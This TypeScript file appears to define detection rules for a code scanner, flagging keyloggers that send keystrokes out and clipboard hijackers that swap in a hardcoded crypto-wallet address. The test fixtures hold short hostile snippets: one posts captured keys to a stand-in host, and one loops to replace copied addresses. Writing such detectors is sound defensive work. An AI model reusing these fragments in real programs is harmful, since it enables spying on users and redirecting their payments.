/** EX-02, AG-07: programs that record what a person does and send it, or that change what a person pays to. */
import { inFile } from '../../engine/example.ts';
import {
  capture,
  chars,
  code,
  letters,
  notAfter,
  oneOf,
  pattern,
  quote,
  seq,
  space,
  times,
  word,
} from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';

const keys = oneOf(
  seq('pynput', times(0, 400, chars('\\s\\S')), 'keyboard.Listener'),
  code('keyboard.on_press('),
  code('keyboard.hook('),
  'SetWindowsHookEx',
  'GetAsyncKeyState',
  word('(iohook|uiohook-napi|node-global-key-listener)'),
);

/** Rows of EX-02. */
export const sentKeys: readonly Row[] = [
  row('what a person types in any program is sent away', {
    in: ['script', 'decoded'],
    within: 'block',
    match: pattern(keys),
    and: [
      pattern(
        oneOf(
          code('requests.post('),
          code('urlopen('),
          code('httpx.post('),
          seq(code('fetch('), times(0, 200, chars('\\s\\S')), 'POST'),
          code('axios.post('),
          code('.sendall('),
          code('smtplib.'),
          'Invoke-(RestMethod|WebRequest)',
          'UploadString',
          code('.sendMessage('),
        ),
      ),
    ],
    severity: 'critical',
    catches: [
      inFile(
        'scripts/a.py',
        'from pynput import keyboard',
        'keyboard.Listener(on_press=buf.append).start()',
        'requests.post("http://in.invalid", data=str(buf))',
      ),
    ],
    spares: [
      inFile('scripts/a.py', 'from pynput import keyboard', 'keyboard.Listener(on_press=count).start()'),
    ],
  }),
];

const wallet = oneOf(
  seq('0x', times(40, 40, chars('0-9a-fA-F'))),
  seq('bc1', times(25, 59, chars('a-z0-9'))),
  seq(chars('13'), times(25, 34, chars('a-km-zA-HJ-NP-Z1-9'))),
  seq('T', times(33, 33, chars('a-km-zA-HJ-NP-Z1-9'))),
);

/** Rows of AG-07. */
export const changedPayees: readonly Row[] = [
  row('the clipboard is filled with an address of a wallet that the program holds', {
    in: ['script', 'decoded'],
    within: 'block',
    match: pattern(
      notAfter(chars('\\w')),
      oneOf(
        code('pyperclip.copy('),
        code('clipboard.writeText('),
        code('clipboard.writeSync('),
        code('clipboard.copy('),
        code('Set-Clipboard'),
        code('SetClipboardData('),
        code('clipboard_append('),
      ),
    ),
    and: [
      pattern(quote, capture(wallet), quote),
      pattern(
        oneOf(
          code('pyperclip.paste('),
          code('clipboard.read'),
          code('clipboard.paste('),
          code('Get-Clipboard'),
          code('GetClipboardData('),
          code('clipboard_get('),
        ),
      ),
      pattern(word(oneOf('while', 'setInterval', 'on_change', 'loop', 'every')), space(0, 3), letters(0, 1)),
    ],
    severity: 'high',
    catches: [
      inFile(
        'scripts/a.py',
        'while True:',
        '    if LOOKS.search(pyperclip.paste()):',
        '        pyperclip.copy("0x52908400098527886E0F7030069857D2E4169EE7")',
      ),
    ],
    spares: [inFile('scripts/a.py', 'while True:', '    pyperclip.copy(pyperclip.paste().strip())')],
  }),
];
